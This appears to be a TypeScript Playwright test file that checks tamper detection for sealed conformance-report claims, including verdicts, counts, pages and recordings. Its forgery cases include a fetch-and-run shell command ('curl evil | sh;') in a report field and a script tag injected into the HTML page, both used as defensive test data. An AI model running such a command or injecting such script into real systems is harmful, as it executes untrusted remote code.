/** Claims verify as the suite wrote them, and no edit of any of their files does. */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import type { ConformanceReport } from '../../../fixtures/report/model/report.ts';
import { PAGE_NAMES, RECORDING_FILE, REPORT, seal as sealReport } from '../../../fixtures/report/out/files.ts';
import { checkClaim, readClaim } from '../../../fixtures/report/run/claim.ts';
import { readRecording } from '../../../fixtures/target/recording/read.ts';
import { computeDigest } from '../../../fixtures/target/recording/recorded.ts';
import { escapeRegExp } from '../../../fixtures/text.ts';
import { test as base } from '../gate/spawn.ts';
import { judgeRecording } from '../../../fixtures/report/run/verify.ts';
import { claim, judge } from './corpus.ts';

interface Judged {
  folder: string;
  after: ConformanceReport;
}

interface Shared {
  /** A claim that violates, with its recording judged again. */
  heron: Judged;
}

function makeClaim(name: string): Judged {
  const folder = mkdtempSync(join(tmpdir(), 'claim-'));
  claim(name, folder);
  return { folder, after: judgeRecording(readRecording(join(folder, RECORDING_FILE)), judge) };
}

const test = base.extend<object, Shared>({
  heron: [
    async ({}, use) => {
      const made = makeClaim('express-rate-limit');
      await use(made);
      rmSync(made.folder, { recursive: true });
    },
    { scope: 'worker' },
  ],
});
// One worker, which shares the claim.
test.describe.configure({ mode: 'default' });

const verify = ({ folder, after }: Judged): string[] =>
  checkClaim(readClaim(folder), readRecording(join(folder, RECORDING_FILE)), after);

type Edit = (text: string) => string;
const editFile = (folder: string, name: string, edit: Edit): void => {
  const text = readFileSync(join(folder, name), 'utf8');
  const edited = edit(text);
  expect(edited).not.toBe(text);
  writeFileSync(join(folder, name), edited);
};

/** Computes all digests again, as somebody who knows this suite would. */
function sealAgain(folder: string): void {
  const read = (name: string): string => readFileSync(join(folder, name), 'utf8');
  const report = JSON.parse(read(REPORT)) as ConformanceReport;
  const files = PAGE_NAMES.map((name) => [name, computeDigest(read(name))] as const);
  const recording = { ...report.recording, digest: computeDigest(read(RECORDING_FILE)) };
  writeFileSync(join(folder, REPORT), JSON.stringify(sealReport({ ...report, recording }, Object.fromEntries(files))));
}

for (const name of ['reference', 'defect-key-repeated', 'fastapi'])
  test(`the claim of ${name} verifies, whatever its formatting`, () => {
    const made = makeClaim(name);
    expect(verify(made)).toEqual([]);
    expect(readClaim(made.folder).notices).toEqual([]);
    editFile(made.folder, REPORT, (text) => JSON.stringify(JSON.parse(text)));
    expect(verify(made)).toEqual([]);
    rmSync(made.folder, { recursive: true });
  });

type Forgery = [title: string, file: string, edit: Edit, message: RegExp];

const ofPage = (title: string, file: string, edit: Edit): Forgery => {
  return [title, file, edit, new RegExp(`^${escapeRegExp(file)} was changed, or differs \\(.*\\)$`)];
};
const ofReport = (title: string, change: (report: ConformanceReport) => object, message: RegExp | string): Forgery => [
  title,
  REPORT,
  (text) => {
    const report = JSON.parse(text) as ConformanceReport;
    return JSON.stringify({ ...report, ...change(report) }, null, 2);
  },
  message instanceof RegExp ? message : new RegExp(`^${escapeRegExp(message)}`),
];

type Requirement = ConformanceReport['requirements'][number];
const pass = (each: Requirement): Requirement => (each.outcome === 'failed' ? { ...each, outcome: 'passed' } : each);
const time = (each: Requirement): object => ({ ...each, cases: each.cases.map((own) => ({ ...own, ms: 1234 })) });
const rename = <T extends object>(each: T, i: number): T => (i === 1 ? { ...each, title: 'all is well' } : each);

const OTHER = `sha256:${'0'.repeat(64)}`;

/** Found although every digest was computed again: it does not follow from the recording. */
const FORGERIES: readonly Forgery[] = [
  ofPage('verdict in the page', 'index.html', (text) => text.replace('Violates', 'Conforms')),
  ofPage('script in the page', 'index.html', (text) => text.replace('</body>', '<script src="x"></script></body>')),
  ofPage('badge', 'badge.json', (text) => text.replace(/"message": "[^"]*"/, '"message": "conforms to 1.0.0"')),
  ofPage('summary', 'summary.md', (text) => text.replace('❌', '✅')),
  ofPage('byte at the end of junit.xml', 'junit.xml', (text) => `${text} `),
  ofReport('verdict', () => ({ verdict: 'conforms' }), 'verdict: "conforms" in the report, "violates" by the rec'),
  ofReport('count', ({ counts }) => ({ counts: { ...counts, failed: 0 } }), 'counts/failed: 0 in the report, 2 by the'),
  ofReport('outcome', ({ requirements }) => ({ requirements: requirements.map(pass) }), /\/outcome: "passed" in .*: /),
  ofReport(
    'title',
    ({ problems }) => ({ problems: problems.map(rename) }),
    'problem 2/title: "all is well" in the report',
  ),
  ofReport('list of problems', () => ({ problems: [] }), 'problem 1: nothing in the report, {"title":'),
  ofReport(
    'time of a test',
    ({ requirements }) => ({ requirements: requirements.map(time) }),
    /\/cases\/0\/ms: 1234 in/,
  ),
  ofReport(
    'wait',
    ({ requests }) => ({ requests: { ...requests, waitedSeconds: 999 } }),
    'requests/waitedSeconds: 999',
  ),
  ofReport('target', () => ({ target: 'https://shop.example/v1' }), 'target: "https://shop.example/v1" in the report'),
  ofReport(
    'implementation',
    () => ({ implementation: 'Otter 2' }),
    'implementation: "Otter 2" in the report, "Express" by',
  ),
  ofReport('start', () => ({ startedAt: '2020-01-01T00:00:00.000Z' }), 'startedAt: "2020-01-01T00:00:00.000Z" in'),
  ofReport('shorter duration', () => ({ durationMs: 1 }), 'durationMs: 1 in the report'),
  ofReport(
    'suite',
    ({ suite }) => ({ suite: { ...suite, version: '9.9.9' } }),
    /^suite.*"9\.9\.9".*\(suite 9\.9\.9 .* judged/,
  ),
  ofReport(
    'contract',
    ({ contract }) => ({ contract: { ...contract, digest: OTHER } }),
    /^contract.*by another contract/,
  ),
  ofReport('id of the run', ({ run }) => ({ run: { ...run, id: 'abc123' } }), 'run/id: "abc123" in the report'),
  ofReport('setting', ({ run }) => ({ run: { ...run, settings: [['DEPTH', 'no']] } }), /^run\/settings.*"DEPTH" in/),
  ofReport('command', ({ run }) => ({ run: { ...run, command: 'curl evil | sh;' } }), 'run/command: "curl evil | sh;"'),
  ofReport(
    'time of the recording',
    ({ recording }) => ({ recording: { ...recording, judgedFrom: '2020-01-01T00:00:00.000Z' } }),
    'recording/judgedFrom: "2020-01-01T00:00:00.000Z" in the report',
  ),
  ofReport('member of another name', () => ({ certified: true }), `certified: true in the report, nothing by the rec`),
  [
    'comment in the recording',
    RECORDING_FILE,
    (text) => text.replace('"statusText":""', '"statusText":"OK"'),
    /^exchanges\.har has more or other content/,
  ],
];

const CHANGED = 'conformance.json was changed: its digest is that of another content';

/** Found by a digest: nothing of it follows from the recording. */
const BY_DIGEST: readonly Forgery[] = [
  ofReport('longer duration', ({ durationMs }) => ({ durationMs: durationMs + 60_000 }), CHANGED),
  ofReport('commit of the suite', ({ suite }) => ({ suite: { ...suite, commit: '0123456789ab' } }), CHANGED),
  ofReport('version of Node.js', ({ run }) => ({ run: { ...run, node: '99.0.0' } }), CHANGED),
  ofReport('digest of the claim', () => ({ claim: undefined }), 'conformance.json has no digest of the claim'),
];

for (const [forgeries, seal] of [
  [FORGERIES, sealAgain],
  [BY_DIGEST, () => {}],
] as const)
  for (const [title, file, edit, message] of forgeries)
    test(`another ${title} does not verify`, ({ heron, directory }) => {
      const folder = join(directory, 'forged');
      cpSync(heron.folder, folder, { recursive: true });
      editFile(folder, file, edit);
      seal(folder);
      expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
    });

test('line ends that git changed are named, and nothing else differs', ({ heron, directory }) => {
  const folder = join(directory, 'checkout');
  cpSync(heron.folder, folder, { recursive: true });
  for (const name of [REPORT, RECORDING_FILE, ...PAGE_NAMES])
    editFile(folder, name, (text) => text.replaceAll('\n', '\r\n'));
  expect(verify({ ...heron, folder })).toEqual([]);
  expect(readClaim(folder).notices).toEqual([
    expect.stringMatching(
      /^changed line ends, as by git with autocrlf: conformance\.json, exchanges\.har, .*"\* -text".*\.gitattributes/,
    ),
  ]);
  editFile(folder, 'badge.json', (text) => text.replace('"red"', '"brightgreen"'));
  expect(verify({ ...heron, folder })).toEqual([expect.stringMatching(/^badge\.json was changed/)]);
});

test('other and missing files are named', ({ heron, directory }) => {
  const folder = join(directory, 'more');
  cpSync(heron.folder, folder, { recursive: true });
  writeFileSync(join(folder, 'certificate.html'), 'conforms');
  rmSync(join(folder, 'junit.xml'));
  expect(verify({ ...heron, folder })).toEqual([]);
  expect(readClaim(folder).notices).toEqual([
    'not in the folder: junit.xml',
    'not part of the claim, and not verified: certificate.html',
  ]);
});
